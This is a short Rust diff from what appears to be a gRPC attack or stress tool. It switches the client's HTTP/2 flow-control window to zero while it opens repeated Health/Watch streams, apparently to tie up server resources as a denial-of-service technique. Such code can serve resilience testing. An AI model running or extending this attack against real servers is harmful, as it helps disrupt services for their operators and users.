@@ -21,6 +21,9 @@ pub const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
 
 const WINDOW_BYTES: u32 = 64 << 10;
 
+/// Window in which no answer fits.
+const NO_WINDOW: u32 = 0;
+
 /// Pause before a call that was refused is made again.
 const PAUSE: Duration = Duration::from_millis(200);
 
@@ -75,7 +78,7 @@ pub fn health_watches(aim: &Aim, connections: usize, calls: usize) -> Attack {
 }
 
 async fn watch(attacker: Attacker, calls: usize, message: Bytes) -> Result<(), Broken> {
-    let (mut client, mut watches) = (attacker.client(WINDOW_BYTES).await?, Vec::new());
+    let (mut client, mut watches) = (attacker.client(NO_WINDOW).await?, Vec::new());
     for _ in 0..calls {
         let (response, mut body) = client.begin(HEALTH_WATCH, "identity").await?;
         body.send_data(message.clone(), true)?;
